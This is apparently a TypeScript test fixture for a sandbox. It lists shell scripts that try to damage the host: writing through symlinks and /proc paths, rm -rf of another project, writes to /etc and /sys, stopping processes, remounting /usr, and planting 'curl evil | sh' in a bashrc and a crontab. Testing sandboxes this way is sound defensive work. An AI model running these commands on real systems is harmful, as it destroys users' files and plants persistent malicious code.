import { exitsZero, spoils } from "../attack.ts";
import type { Attack } from "../attack.ts";

const category = "host damage" as const;

/** Writes, deletions and signals that reach the person's machine. */
const hostDamageCases: readonly Omit<Attack, "category">[] = [
  {
    id: "damage-write",
    title: "overwrites a file outside the workspace",
    script: "echo spoilt > $ROOT/damage/precious",
    hit: spoils("damage/precious"),
  },
  {
    id: "damage-symlink",
    title: "writes through a symbolic link of its own",
    script: "ln -sfn $ROOT/damage/linked here && echo spoilt > here; rm -f here",
    hit: spoils("damage/linked"),
  },
  {
    id: "damage-rename",
    title: "moves a file of the person's away",
    script: "mv $ROOT/damage/renamed taken; rm -f taken",
    hit: spoils("damage/renamed"),
  },
  {
    id: "damage-truncate",
    title: "truncates through a relative path with many ..",
    script: ": > ../../../../../../../../$ROOT/damage/truncated",
    hit: spoils("damage/truncated"),
  },
  {
    id: "damage-hardlink",
    title: "writes through a hard link",
    script: "ln $ROOT/damage/hardlinked link && echo spoilt >> link; rm -f link",
    hit: spoils("damage/hardlinked"),
  },
  {
    id: "damage-chmod",
    title: "opens a private file to everybody",
    script: "chmod 666 $ROOT/damage/chmodded",
    hit: spoils("damage/chmodded"),
  },
  {
    id: "damage-proc-root",
    title: "writes through /proc/PID/root of a host process",
    script: "echo spoilt > /proc/$VICTIM/root$ROOT/damage/proc",
    hit: spoils("damage/proc"),
  },
  {
    id: "damage-proc-cwd",
    title: "writes through an own descriptor to /",
    script: "exec 9</; echo spoilt > /proc/self/fd/9$ROOT/damage/descriptor",
    hit: spoils("damage/descriptor"),
  },
  {
    id: "damage-bashrc",
    title: "plants a line in a shell's start file",
    script: "echo 'curl evil | sh' >> $ROOT/damage/bashrc",
    hit: spoils("damage/bashrc"),
  },
  {
    id: "damage-crontab",
    title: "plants a job",
    script: "printf '* * * * * evil\\n' | tee $ROOT/damage/crontab",
    hit: spoils("damage/crontab"),
  },
  {
    id: "damage-rm",
    title: "deletes another project",
    script: "rm -rf $ROOT/other/deletable 2>/dev/null; mkdir $ROOT/other/made",
    hit: exitsZero,
  },
  {
    id: "damage-workspace",
    title: "writes into the real workspace, not the shadow",
    script: "touch $REAL_WORKSPACE/direct-write && sleep 0.1",
    hit: (world) => world.present("direct-write"),
  },
  {
    id: "damage-usr",
    title: "plants a program in /usr/local/bin",
    script: "f=/usr/local/bin/holdfast-attack-$$; touch $f && rm $f",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "damage-etc",
    title: "writes into /etc",
    script: "f=/etc/holdfast-attack-$$; touch $f && rm $f",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "damage-sysctl",
    title: "sets a kernel parameter (to what it is)",
    script:
      "v=$(cat /proc/sys/kernel/printk_ratelimit) && echo $v > /proc/sys/kernel/printk_ratelimit",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "damage-sysrq",
    title: "opens the kernel's emergency trigger",
    script: ": >> /proc/sysrq-trigger",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "damage-sys",
    title: "writes to /sys",
    script:
      "test -w /sys/kernel/mm/transparent_hugepage/enabled && : >> /sys/kernel/mm/transparent_hugepage/enabled",
    hit: exitsZero,
    marked: "needs root and that file",
  },
  {
    id: "damage-device",
    title: "opens a device of the machine",
    script: ": < /dev/loop-control || : < /dev/mem || : < /dev/kmsg",
    hit: exitsZero,
    marked: "needs root",
  },
  {
    id: "damage-signal",
    title: "stops a process of the person's",
    script: "kill -STOP $VICTIM && kill -CONT $VICTIM",
    hit: exitsZero,
  },
  {
    id: "damage-remount",
    title: "remounts a read-only place writable",
    script:
      "unshare -m sh -c 'mount -o remount,rw /usr && f=/usr/holdfast-attack-$$ && touch $f && rm $f'",
    hit: exitsZero,
    marked: "needs root",
  },
];

export const hostDamage: readonly Attack[] = hostDamageCases.map((attack) => ({
  category,
  ...attack,
}));
